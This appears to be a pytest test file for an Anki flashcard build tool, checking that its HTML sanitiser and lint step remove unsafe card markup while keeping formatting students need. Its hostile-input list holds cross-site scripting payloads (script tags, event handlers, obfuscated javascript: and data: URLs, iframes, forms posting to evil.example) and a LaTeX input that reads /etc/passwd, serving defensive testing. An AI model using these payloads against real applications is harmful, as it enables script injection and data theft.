"""Nothing an author writes can run code on a student's device, and the markup students need survives.

Two independent guards, both tested here: `check` reports every piece of markup the sanitiser would
remove as an error at `file:line` (so nothing vanishes silently and nothing unsafe is built), and the
sanitiser (nh3) strips it anyway. A package is also built with the reporting switched off, to prove the
sanitiser alone keeps everything unsafe out of the collection Anki imports.
"""

from __future__ import annotations

import json
import re
import sqlite3
import zipfile
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from anki_engine import import_package, open_collection
from conftest import png
from tierdeck.notes import render as render_module
from tierdeck.notes.render import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    STYLE_PROPERTIES,
    audit,
    markdown,
    plain_text,
    render,
    sanitise,
)

LATEX = (
    "Anki LaTeX ([latex], [$], [$$]) is not allowed: it runs the LaTeX installed on the student's computer; "
    "write the formula as text with <sub> and <sup> instead"
)
# (what, the markup, the message `check` prints for it)
HOSTILE = [
    ("script", "<script>alert(document.cookie)</script>", "the HTML tag <script> is not allowed; remove it"),
    (
        "event handler",
        '<img src="https://example.org/x.png" onerror="alert(1)">',
        "the event handler 'onerror' on <img> is not allowed (cards run no scripts); remove it",
    ),
    (
        "event handler on a link",
        '<a href="https://example.org" onclick="steal()">Guyton</a>',
        "the event handler 'onclick' on <a> is not allowed (cards run no scripts); remove it",
    ),
    (
        "javascript: link",
        '<a href="javascript:alert(1)">more</a>',
        "the 'javascript:' URL in <a href> is not allowed; use an http(s) or mailto: link, or an image file",
    ),
    (
        "javascript: markdown link",
        "[more](javascript:alert(1))",
        "the 'javascript:' URL in <a href> is not allowed; use an http(s) or mailto: link, or an image file",
    ),
    (
        "javascript: hidden by a tab",
        '<a href="jav&#x09;ascript:alert(1)">more</a>',
        "the 'javascript:' URL in <a href> is not allowed; use an http(s) or mailto: link, or an image file",
    ),
    (
        "javascript: image",
        '<img src="JaVaScRiPt:alert(1)">',
        "the 'JaVaScRiPt:' URL in <img src> is not allowed; use an http(s) or mailto: link, or an image file",
    ),
    (
        "data: link",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        "the 'data:' URL in <a href> is not allowed; use an http(s) or mailto: link, or an image file",
    ),
    (
        "data: SVG image",
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        (
            "the 'data:image/svg+xml' URL in <img src> is not allowed (only PNG, JPEG, GIF and WebP images may be "
            "written inline, as base64); use an image file"
        ),
    ),
    ("iframe", '<iframe src="https://evil.example"></iframe>', "the HTML tag <iframe> is not allowed; remove it"),
    ("object", '<object data="x.swf"></object>', "the HTML tag <object> is not allowed; remove it"),
    ("embed", '<embed src="x.swf">', "the HTML tag <embed> is not allowed; remove it"),
    (
        "style with url()",
        "<style>.card { background: url(https://evil.example/track.png) }</style>",
        "the HTML tag <style> is not allowed; remove it",
    ),
    (
        "style attribute with url()",
        '<span style="background-color: url(https://evil.test/t)">x</span>',
        "the value of 'background-color' in style is not kept ('url(https://evil.test/t)'); write a plain value",
    ),
    (
        "style that moves the card",
        '<div style="position: fixed; top: 0">covers the card</div>',
        "the CSS property 'position' in style is not kept (it could move, hide or resize the card); use only "
        "background-color, color, font-style, font-weight, text-align, text-decoration",
    ),
    ("svg with a script", "<svg><script>alert(1)</script></svg>", "the HTML tag <svg> is not allowed; remove it"),
    ("svg onload", '<svg onload="alert(1)"></svg>', "the HTML tag <svg> is not allowed; remove it"),
    (
        "form",
        '<form action="https://evil.example"><input name="pw"></form>',
        "the HTML tag <form> is not allowed; remove it",
    ),
    (
        "meta refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        "the HTML tag <meta> is not allowed; remove it",
    ),
    ("base", '<base href="https://evil.example/">', "the HTML tag <base> is not allowed; remove it"),
    (
        "comment",
        "<!-- [if IE]><script>x</script><![endif] -->",
        "HTML comments are not allowed; remove the <!-- ... -->",
    ),
    ("Anki LaTeX", "[latex]\\input{/etc/passwd}[/latex]", LATEX),
    ("Anki LaTeX behind an entity", "pH = &#91;$]pK_a&#91;/$]", LATEX),
    ("Anki LaTeX behind a backslash", "pH = \\[$$]pK_a\\[/$$]", LATEX),
]
IDS = [what for what, _, _ in HOSTILE]
SAFE_DATA_IMAGE = re.compile(r"^data:image/(png|jpe?g|gif|webp);base64,", re.IGNORECASE)
SAFE_SCHEMES = ("http:", "https:", "mailto:")


class _Markup(HTMLParser):
    """Every tag and attribute of a (small, sanitised) HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, [(name, value or "") for name, value in attrs]))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)


def _safe_style(style: str) -> bool:
    """Only colour and emphasis properties, with plain values (no url(), no expression())."""
    for declaration in filter(str.strip, style.split(";")):
        name, _, value = declaration.partition(":")
        if name.strip().lower() not in STYLE_PROPERTIES or re.search(r"url|expression|\\", value, re.IGNORECASE):
            return False
    return True


def unsafe_parts(fragment: str) -> list[str]:
    """What in `fragment` could run code, load something hostile or leave the card: empty when it is safe."""
    parser = _Markup()
    parser.feed(fragment)
    parser.close()
    found = [f"comment {c!r}" for c in parser.comments]
    for tag, attrs in parser.tags:
        if tag not in ALLOWED_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs:
            url = re.sub(r"[\x00-\x20]", "", value).lower()
            allowed = {*ALLOWED_ATTRIBUTES.get(tag, ()), *ALLOWED_ATTRIBUTES["*"], *(("rel",) if tag == "a" else ())}
            absolute = ":" in url.split("/", 1)[0]
            safe_url = url.startswith(SAFE_SCHEMES) or (tag == "img" and bool(SAFE_DATA_IMAGE.match(url)))
            if name.startswith("on") or name not in allowed:
                found.append(f"<{tag} {name}>")
            elif name == "style" and not _safe_style(value):
                found.append(f"<{tag} style={value!r}>")
            elif name == "dir" and value not in ("ltr", "rtl", "auto"):
                found.append(f"<{tag} dir={value!r}>")
            elif name in ("href", "src") and absolute and not safe_url:
                found.append(f"<{tag} {name}={value!r}>")
    if re.search(r"\[(\$\$?|latex)\]", fragment, re.IGNORECASE):
        found.append("Anki LaTeX")
    return found


@pytest.mark.parametrize(("what", "markup", "message"), HOSTILE, ids=IDS)
def test_html_safety__check_reports_unsafe_markup_at_file_and_line(mini, what, markup, message):
    mini.write(
        "cards/a.yaml",
        f"""
        tier: one
        source: Safety
        cards:
          - type: basic
            id: q1
            front: What do osteoclasts do?
            back: {_quoted(markup)}
        """,
    )
    result = mini.run("check")
    assert result.exit_code == 1
    assert f"cards/a.yaml:7: cards[0].back: {message}\n" in result.stderr
    assert result.stderr.endswith("; nothing was written\n")
    assert "Traceback" not in result.output


@pytest.mark.parametrize(("what", "markup", "message"), HOSTILE, ids=IDS)
def test_html_safety__the_sanitiser_alone_strips_unsafe_markup(what, markup, message):
    assert unsafe_parts(markdown(markup)), "the test's own detector must see the danger in the rendered markup"
    assert unsafe_parts(sanitise(markup)) == []
    assert unsafe_parts(sanitise(markdown(markup))) == []
    html, problems = render(markup)
    assert unsafe_parts(html) == []
    assert message in problems


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def collection_fields(apkg) -> list[str]:
    """Every field of every note in a package, read straight from its SQLite collection."""
    with zipfile.ZipFile(apkg) as zf:
        data = zf.read("collection.anki2")
    path = apkg.parent / "collection-under-test.anki2"
    path.write_bytes(data)
    try:
        with sqlite3.connect(path) as conn:
            rows = conn.execute("SELECT flds FROM notes").fetchall()
    finally:
        path.unlink()
    return [field for (flds,) in rows for field in flds.split("\x1f")]


NEEDED = """
    tier: one
    source: "[Guyton and Hall](https://example.org/guyton), ch. 80"
    cards:
      - type: basic
        id: markup
        front: What does *emphasis*, **strong**, H<sub>2</sub>O and Ca<sup>2+</sup> look like?
        back: |
          ### Heading

          > A quote.

          Lists:

          - one
          - two

          1. first
          2. second

          | Cell | Role |
          | :--- | ---: |
          | Osteoblast | builds |

          ```python
          ratio = rankl / opg
          ```

          A line<br>break, and an image: <img src="x.png" alt="bone">
        extra: "<b>bold</b>, <i>italic</i>, <u>under</u>, <mark>marked</mark> and [a link](https://example.org/bone)"
      - type: basic
        id: colours
        front: '<span class="td-red" style="font-weight: bold; text-align: left">Red bold</span> and plain?'
        back: '<p dir="rtl">مرحبا</p><details><summary>More</summary>Hidden until tapped.</details>'

"""


def test_html_safety__markup_students_need_survives_into_the_collection(mini):
    mini.write("cards/a.yaml", NEEDED)
    (mini.root / "cards" / "x.png").write_bytes(png())
    result = mini.run("build")
    assert result.exit_code == 0, result.output
    assert result.stderr == ""

    fields = "\n".join(collection_fields(mini.root / "dist" / "mini.apkg"))
    for needed in (
        "<em>emphasis</em>",
        "<strong>strong</strong>",
        "H<sub>2</sub>O",
        "Ca<sup>2+</sup>",
        "<ul>",
        "<li>one</li>",
        "<ol>",
        "<li>first</li>",
        "<table>",
        '<th align="left">Cell</th>',
        '<td align="right">builds</td>',
        '<pre><code class="language-python">ratio = rankl / opg',
        "<h3>Heading</h3>",
        "<blockquote>",
        "line<br>break",
        "<b>bold</b>",
        "<i>italic</i>",
        "<u>under</u>",
        "<mark>marked</mark>",
        '<a href="https://example.org/bone" rel="noopener noreferrer">a link</a>',
        '<a href="https://example.org/guyton" rel="noopener noreferrer">Guyton and Hall</a>',
        '<span class="td-red" style="font-weight:bold;text-align:left">Red bold</span>',
        '<p dir="rtl">مرحبا</p>',
        "<details><summary>More</summary>Hidden until tapped.</details>",
    ):
        assert needed in fields, needed
    assert re.search(r'<img src="x-[0-9a-f]{12}\.png" alt="bone">', fields), fields
    assert unsafe_parts(fields) == []


def test_html_safety__inline_colours_survive_and_lint_says_when_they_are_too_faint(mini):
    mini.write(
        "cards/a.yaml",
        """
        tier: one
        source: Test
        cards:
          - type: basic
            id: colours
            front: '<span style="color: #c00">red</span> and <font color="navy">navy</font>?'
            back: Both.
        """,
    )
    result = mini.run("check")
    assert result.exit_code == 0, result.output
    assert result.stderr.splitlines() == [
        "cards/a.yaml:4: warning: cards[0]: Front: the colour #c00 reads at 2.8:1 on the night background, under the "
        "4.5:1 a student needs (no colour has it on both the light and the night background); use a colour class "
        'that changes with the mode instead, e.g. <span class="td-red">, or td-orange, td-green, td-blue, td-purple',
        "cards/a.yaml:4: warning: cards[0]: Front: the colour navy reads at 1.0:1 on the night background, under the "
        "4.5:1 a student needs (no colour has it on both the light and the night background); use a colour class "
        'that changes with the mode instead, e.g. <span class="td-red">, or td-orange, td-green, td-blue, td-purple',
    ]
    assert mini.run("build").exit_code == 0
    fields = "\n".join(collection_fields(mini.root / "dist" / "mini.apkg"))
    assert '<span style="color:#c00">red</span>' in fields and '<font color="navy">navy</font>' in fields


def test_html_safety__without_the_reports_the_sanitiser_still_keeps_everything_unsafe_out(mini, monkeypatch, tmp_path):
    # Simulate a reporting bug: nothing is reported, so the build goes ahead and only the sanitiser stands guard.
    monkeypatch.setattr(render_module, "audit", lambda fragment: [])
    hostile = [markup for what, markup, _ in HOSTILE if not what.startswith("Anki LaTeX")]
    cards = "".join(
        f"""
          - type: basic
            id: q{i}
            front: {_quoted(f"Question {i} {markup}")}
            back: {_quoted(f"Answer {i} {markup}")}
            extra: {_quoted(f"Extra {i} {markup}")}
        """
        for i, markup in enumerate(hostile)
    )
    mini.write("cards/a.yaml", "tier: one\nsource: Safety\ncards:" + cards)
    result = mini.run("build")
    assert result.exit_code == 0, result.output

    apkg = mini.root / "dist" / "mini.apkg"
    fields = collection_fields(apkg)
    assert len(fields) == 5 * len(hostile)
    for field in fields:
        assert unsafe_parts(field) == [], field
    col = open_collection(tmp_path / "student")
    try:
        assert import_package(col, apkg).new == len(hostile)
        for cid in col.find_cards(""):
            card = col.get_card(cid)
            for side in (card.question(), card.answer()):
                assert not re.search(r"<(script|iframe|object|embed|form|meta|base|svg)\b|javascript:|\son\w+=", side)
    finally:
        col.close()


def test_html_safety__the_deck_description_is_sanitised_too(mini, monkeypatch):
    monkeypatch.setattr(render_module, "audit", lambda fragment: [])  # again, only the sanitiser stands guard
    mini.write(
        "decks/mini.yaml",
        """
        id: mini
        name: Mini
        description: "A **deck** <script>alert(1)</script><img src='https://e.example/x.png' onerror='alert(1)'>"
        version: "<a href='javascript:alert(1)'>1.0</a>"
        tiers: [{id: one, title: 1 One}]
        cards: [cards]
        """,
    )
    mini.write("cards/a.yaml", "tier: one\nsource: S\ncards: [{type: basic, id: q, front: Front?, back: Back.}]\n")
    assert mini.run("build").exit_code == 0

    with zipfile.ZipFile(mini.root / "dist" / "mini.apkg") as zf:
        (mini.root / "c.anki2").write_bytes(zf.read("collection.anki2"))
    with sqlite3.connect(mini.root / "c.anki2") as conn:
        (decks,) = conn.execute("SELECT decks FROM col").fetchone()
    descriptions = [deck["desc"] for deck in json.loads(decks).values() if deck["name"] == "Mini"]
    assert descriptions and "<strong>deck</strong>" in descriptions[0]
    assert unsafe_parts(descriptions[0]) == []


def test_html_safety__anki_latex_is_defused_by_the_sanitiser_too():
    for text in ("[latex]\\input{x}[/latex]", "x [$]a[/$]", "[$$]b[/$$]", "[LaTeX]c[/LaTeX]"):
        html = sanitise(markdown(text))
        assert not re.search(r"\[(\$\$?|latex)\]", html, re.IGNORECASE), html
        assert "&#91;" in html


def test_html_safety__inline_raster_images_are_allowed():
    data = "data:image/png;base64,iVBORw0KGgo="
    html, problems = render(f'<img src="{data}" alt="x">')
    assert problems == []
    assert f'src="{data}"' in html


# Markdown and HTML syntax, and the words that make markup dangerous.
MARKDOWNISH = st.lists(
    st.sampled_from(
        list("ab <>/=\"'[]()!:*_`#-|\n&;\t")
        + ["javascript", "script", "http", "data", "on", "img", "src", "$", "latex", "&#91;"]
    ),
    max_size=30,
).map("".join)


@settings(deadline=None)
@given(text=MARKDOWNISH)
def test_html_safety__whatever_is_written_what_is_built_is_safe(text):
    html, problems = render(text)
    assert unsafe_parts(html) == []
    if not problems:  # accepted text loses nothing visible to the sanitiser
        assert plain_text(html) == plain_text(markdown(text))


@settings(deadline=None)
@given(text=MARKDOWNISH)
def test_html_safety__text_that_skips_the_sanitiser_carries_no_markup_it_would_touch(text):
    rendered = markdown(text)
    if render_module._NEEDS_SANITISING.search(text) or render_module._ANKI_LATEX.search(rendered):
        return  # render() sanitises this one
    assert audit(rendered) == []
    assert unsafe_parts(rendered) == []
